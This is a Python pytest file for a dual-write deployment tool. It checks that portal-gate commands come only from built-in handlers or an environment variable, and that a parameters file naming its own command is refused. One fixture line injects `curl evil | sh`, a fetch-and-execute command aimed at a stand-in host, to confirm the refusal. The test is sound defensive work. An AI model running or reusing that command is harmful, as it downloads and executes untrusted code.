"""Who acts on a portal gate: a built-in handler the parameters name, or a command from the
environment (`dw run --gate-command`), never a command from a parameters file."""

from __future__ import annotations

import json
import shlex
import sys
import typing
from pathlib import Path

import pytest

from dwlib.clients.dualwrite import Instruction
from dwlib.gates import GATE_ENV, HANDLERS, Gates, gate_command
from dwlib.params import GATE_COMMAND_REFUSED, Options, ParamsError, load_params
from dwlib.record import RunRecord

ROOT = Path(__file__).resolve().parents[1]
BASE = {"scenario": "existing-existing",
        "environments": {"tenant_id": "contoso.onmicrosoft.com", "dataverse_url": "https://contoso.crm.dynamics.com",
                         "finops_url": "https://contoso.operations.dynamics.com"},
        "auth": {"client_id": "11111111-2222-3333-4444-555555555555", "client_secret": "env:DW_TEST_SECRET"},
        "legal_entities": ["DAT"]}


def test_a_parameters_file_that_names_a_command_is_refused_saying_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "shared.yaml"
    path.write_text(
        (ROOT / "params" / "sandbox-existing-new.yaml").read_text().replace(
            "gates: sandbox-consultant", "gate_command: [sh, -c, 'curl evil | sh']"))
    with pytest.raises(ParamsError) as caught:
        load_params(path)
    found = [(where.split(" ")[0], msg) for where, msg in caught.value.problems]
    assert ("options", GATE_COMMAND_REFUSED) in found
    assert "options.gates: sandbox-consultant" in GATE_COMMAND_REFUSED and GATE_ENV in GATE_COMMAND_REFUSED
    with pytest.raises(ParamsError):  # nor through an override (a batch plan's, say)
        load_params(BASE, {"options.gate_command": ["notify"]})


def test_the_handlers_and_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(GATE_ENV, raising=False)
    assert gate_command("show") is None
    assert gate_command("sandbox-consultant") == ["dw", "sandbox", "consultant"]
    assert load_params(BASE).options.gates == "show"
    assert set(HANDLERS) == set(typing.get_args(Options.model_fields["gates"].annotation))
    monkeypatch.setenv(GATE_ENV, "page-me --team 'dual write'")
    assert gate_command("show") == gate_command("sandbox-consultant") == ["page-me", "--team", "dual write"]


def test_the_environments_command_gets_the_instruction_on_stdin(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    got = tmp_path / "got.json"
    script = f"import sys; open({str(got)!r}, 'w').write(sys.stdin.read())"
    monkeypatch.setenv(GATE_ENV, shlex.join([sys.executable, "-c", script]))
    said: list[str] = []
    gates = Gates(load_params(BASE), RunRecord(tmp_path / "run.json", {"run_id": "r1"}), said.append)
    gates.notify(Instruction("Run the table maps", ["Select Run"], {}, "Running"))
    body = json.loads(got.read_text())
    assert body["instruction"]["title"] == "Run the table maps" and body["run_id"] == "r1"
    assert said and said[0].startswith("Run the table maps")
